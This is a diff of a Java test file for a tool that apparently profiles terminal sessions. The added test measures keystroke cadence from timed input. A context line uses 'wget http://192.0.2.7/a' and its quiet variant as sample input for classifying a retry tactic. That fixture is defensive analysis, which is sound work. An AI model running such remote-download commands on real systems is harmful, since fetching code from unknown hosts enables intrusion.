@@ -107,6 +107,24 @@ class BehaviouralPrimitivesTest {
   }
 
   @Test
+  void paceIsOfCharactersAloneAndNotOfThought() throws IOException {
+    Tty tty = Tty.begun();
+    for (int i = 0; i < 12; i++) {
+      tty.after(100)
+          .input("a")
+          .after(900)
+          .input("\u007f")
+          .after(900)
+          .input("a")
+          .after(5000)
+          .input("b");
+    }
+    tty.after(100).input("c").after(100).input("d").after(100).input("e");
+    assertThat(number(values(tty.after(200).input("\r").closed()), Primitive.KEYSTROKE_CADENCE))
+        .isEqualTo(100);
+  }
+
+  @Test
   void whatFollowsAComplaintIsTheTactic() throws IOException {
     assertThat(values(complaint("wget http://192.0.2.7/a", "wget -q http://192.0.2.7/a")))
         .containsEntry(Primitive.RETRY_TACTIC, "\"amend\"");
